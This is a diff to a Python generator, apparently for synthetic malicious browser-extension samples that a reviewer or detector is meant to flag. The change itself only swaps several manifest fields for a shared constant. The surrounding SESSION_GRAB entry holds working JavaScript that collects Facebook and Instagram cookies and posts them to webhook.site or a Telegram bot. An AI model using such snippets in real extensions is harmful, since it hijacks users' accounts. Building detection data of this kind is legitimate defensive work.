@@ -8,6 +8,7 @@ alternatives (None = absent), ``dnr`` rule style, ``code`` excerpts a reviewer c
 from __future__ import annotations
 
 from data.generator.kit import Bank, Family
+from data.generator.manifests import STORE_ONLY
 
 _TT = "https://*.tiktok.com/*"
 
@@ -459,10 +460,7 @@ SESSION_GRAB = Family(
             ("*://*.instagram.com/*", _TT, "*://web.facebook.com/*"),
         ),
         "cs": ((),),
-        "update": ("store",),
-        "ext_conn": (None,),
-        "csp": (None,),
-        "dnr": None,
+        **STORE_ONLY,
         "code": (
             "$('#go').click(() => chrome.cookies.getAll({url: 'https://www.facebook.com'}, cs => $.ajax({url: 'https://webhook.site/' + ID, type: 'POST', data: {c: cs.map(c => c.name + '=' + c.value)}})));",
             "chrome.cookies.getAll({domain: '.instagram.com'}, cs => fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=${C}&text=` + encodeURIComponent(JSON.stringify(cs))));",
